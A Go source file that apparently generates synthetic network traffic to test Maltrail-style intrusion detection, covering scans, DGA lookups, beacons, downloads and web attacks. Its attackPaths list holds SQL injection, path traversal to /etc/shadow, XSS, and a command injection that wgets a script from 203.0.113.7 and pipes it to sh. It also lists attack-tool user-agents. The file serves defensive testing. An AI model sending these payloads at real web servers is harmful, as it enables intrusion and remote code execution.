package trafficgen

import (
	"net/netip"
	"strconv"
	"strings"
	"time"
)

// trailDomain looks up a domain trail and connects to it over TLS (SNI)
// or HTTP (Host header).
func (g *Generator) trailDomain() bool {
	if len(g.in.Domains) == 0 {
		return false
	}
	d := choose(g.rng, g.in.Domains)
	name := d.Name
	if d.Subdomain {
		name = randomLabel(g.rng, 4, 9, false) + "." + name
	}
	h := g.host()
	addr := g.publicAddr()
	g.lookup(h, false, 0, name, dnsA, rcodeOK, addr)
	switch g.rng.IntN(3) {
	case 0, 1:
		g.tlsSession(h, addr, 443, name)
	default:
		g.httpSession(h, addr, 80, name, choose(g.rng, benignPaths), h.ua)
	}
	return true
}

// trailURL requests a URL trail.
func (g *Generator) trailURL() bool {
	if len(g.in.URLs) == 0 {
		return false
	}
	key := choose(g.rng, g.in.URLs)
	hostPart, path, _ := strings.Cut(key, "/")
	name, portText, hasPort := strings.Cut(hostPart, ":")
	port := uint16(80)
	if hasPort {
		p, err := strconv.ParseUint(portText, 10, 16)
		if err != nil || p == 0 {
			return false
		}
		port = uint16(p)
	}
	h := g.host()
	addr, err := netip.ParseAddr(name)
	if err != nil {
		addr = g.publicAddr()
		g.lookup(h, false, 0, name, dnsA, rcodeOK, addr)
	}
	g.httpSession(h, addr, port, hostPart, "/"+path, h.ua)
	return true
}

var c2Ports = []uint16{443, 443, 80, 8080, 8443, 4444, 1337, 9001}

// trailIP connects to a listed address: a short exchange, unanswered SYN
// retries, or a ping.
func (g *Generator) trailIP() bool {
	if len(g.in.Outbound) == 0 {
		return false
	}
	addr := choose(g.rng, g.in.Outbound)
	h := g.host()
	if addr.Is6() {
		h = g.hostV6()
	}
	switch g.rng.IntN(4) {
	case 0:
		c, srv := g.client(h, addr.Is6()), g.remote(addr, choose(g.rng, c2Ports))
		seq := g.rng.Uint32()
		for i := range 3 {
			g.syn(time.Duration(1<<i)*time.Second, &c, &srv, h.ttl, seq)
		}
	case 1:
		c, srv := g.client(h, addr.Is6()), g.remote(addr, 0)
		for i := range 4 {
			g.ping(time.Second, &c, &srv, h.ttl, uint16(i+1))
		}
	default:
		g.beacon(h, addr, choose(g.rng, c2Ports))
	}
	return true
}

// trailService connects to a listed address:port.
func (g *Generator) trailService() bool {
	if len(g.in.Services) == 0 {
		return false
	}
	ap := choose(g.rng, g.in.Services)
	h := g.host()
	if ap.Addr().Is6() {
		h = g.hostV6()
	}
	g.beacon(h, ap.Addr(), ap.Port())
	return true
}

var probedPorts = []uint16{21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723, 3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 8888, 9200, 11211, 27017}

// inboundAttacker probes internal hosts from a listed attacker: a few
// ports, or a full scan.
func (g *Generator) inboundAttacker() bool {
	src := g.outsideSource()
	target := g.net.webServer
	if g.rng.IntN(2) == 0 {
		target = g.host().v4
	}
	n := 1 + g.rng.IntN(3)
	if g.rng.IntN(3) == 0 {
		n = 12 + g.rng.IntN(18)
	}
	g.probe(src, g.remoteTTL(), target, n, 64)
	return true
}

// outsideSource is a listed attacker, or an unlisted outside address when
// the trail set names none.
func (g *Generator) outsideSource() endpoint {
	var a netip.Addr
	for range 4 {
		if len(g.in.Inbound) > 0 {
			a = choose(g.rng, g.in.Inbound)
		} else {
			a = choose(g.rng, g.net.scanSource)
		}
		if a.Is4() {
			break
		}
	}
	if !a.Is4() {
		a = choose(g.rng, g.net.scanSource)
	}
	return endpoint{mac: g.net.gateway, addr: a, port: uint16(1024 + g.rng.IntN(64000))}
}

// portScan is an internal host scanning another.
func (g *Generator) portScan() bool {
	a, b := g.host(), g.host()
	if a == b {
		return false
	}
	src := a.v4
	src.port = uint16(40000 + g.rng.IntN(20000))
	g.probe(src, a.ttl, b.v4, 12+g.rng.IntN(18), b.ttl)
	return true
}

// dgaBurst is malware trying generated domain names: lookups of random
// two-label names answered NXDOMAIN.
func (g *Generator) dgaBurst() bool {
	h := g.host()
	for i, n := 0, 2+g.rng.IntN(4); i < n; i++ {
		name := randomLabel(g.rng, 13, 22, true) + "." + choose(g.rng, dgaTLDs)
		g.lookup(h, false, ms(g.rng, 20, 400), name, dnsA, rcodeNXName)
	}
	return true
}

var dgaTLDs = []string{"com", "net", "org", "info", "biz", "top", "xyz", "ru"}

// nxdomainBurst is a host asking for many missing names under one domain,
// answered NXDOMAIN (Maltrail counts these for clients that are not
// private IPv4 addresses: the IPv6 hosts here).
func (g *Generator) nxdomainBurst() bool {
	h := g.hostV6()
	base := randomLabel(g.rng, 6, 10, false) + "-" + randomLabel(g.rng, 4, 7, false) + "." + choose(g.rng, dgaTLDs)
	for i, n := 0, 22+g.rng.IntN(12); i < n; i++ {
		name := randomLabel(g.rng, 5, 12, false) + "." + base
		g.lookup(h, true, ms(g.rng, 10, 200), name, dnsA, rcodeNXName)
	}
	return true
}

// Tools whose User-Agents Maltrail's ua.txt lists.
var toolAgents = []string{
	"sqlmap/1.8.4#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322; Hydra)",
}

// badUserAgent is an internal host fetching a page with a tool's agent.
func (g *Generator) badUserAgent() bool {
	h, st := g.host(), choose(g.rng, g.net.sites)
	addr := g.resolve(h, st.name, st.v4, netip.Addr{})
	g.httpSession(h, addr, 80, st.name, choose(g.rng, benignPaths), choose(g.rng, toolAgents))
	return true
}

// Attack requests against the internal web server.
var attackPaths = []string{
	"/products.php?id=1%27%20union%20select%20null,username,password%20from%20users--",
	"/index.php?page=../../../../../../etc/passwd",
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/cgi-bin/status?cmd=;wget%20http://203.0.113.7/x.sh%20-O-|sh",
	"/view.php?file=....//....//....//etc/shadow",
	"/login.php?user=admin%27%20or%20%271%27=%271",
}

// webAttack sends an attack request to the internal web server.
func (g *Generator) webAttack() bool {
	src := g.outsideSource()
	h := &host{ttl: g.remoteTTL()}
	ws := g.net.webServer
	g.httpSessionFrom(h, src, ws, ws.addr.String(), choose(g.rng, attackPaths), choose(g.rng, toolAgents))
	return true
}

var downloadNames = []string{"upd.exe", "setup.exe", "inv.scr", "doc.hta", "run.ps1", "patch.dll", "a.bin", "flash.msi"}

// download is a host fetching an executable straight from an address.
func (g *Generator) download() bool {
	h := g.host()
	name := randomLabel(g.rng, 5, 9, false) + "-cdn." + choose(g.rng, []string{"com", "net"})
	addr := g.publicAddr()
	g.lookup(h, false, 0, name, dnsA, rcodeOK, addr)
	g.httpSession(h, addr, 80, name, "/"+randomLabel(g.rng, 2, 6, false)+"/"+choose(g.rng, downloadNames), h.ua)
	return true
}

var scanPaths = []string{"/admin/", "/backup/", "/phpmyadmin/", "/.git/config", "/wp-admin/", "/login", "/server-status", "/manager/html",
	"/config.php", "/test/", "/old/", "/api/", "/debug/", "/console", "/setup/", "/db/", "/private/", "/tmp/"}

// webScan is an outside scanner requesting many paths of the web server.
func (g *Generator) webScan() bool {
	src := g.outsideSource()
	h := &host{ttl: g.remoteTTL()}
	ua := choose(g.rng, toolAgents)
	for _, i := range g.rng.Perm(len(scanPaths))[:12+g.rng.IntN(6)] {
		src.port = uint16(1024 + g.rng.IntN(64000))
		g.httpSessionFrom(h, src, g.net.webServer, g.net.webServer.addr.String(), scanPaths[i], ua)
	}
	return true
}

// sinkholed is a host resolving a seized or parked name: the answer is a
// sinkhole or parking address.
func (g *Generator) sinkholed() bool {
	if len(g.in.Sinkholes) == 0 {
		return false
	}
	h := g.host()
	name := randomLabel(g.rng, 6, 12, false) + "." + choose(g.rng, dgaTLDs)
	g.lookup(h, false, 0, name, dnsA, rcodeOK, choose(g.rng, g.in.Sinkholes))
	return true
}
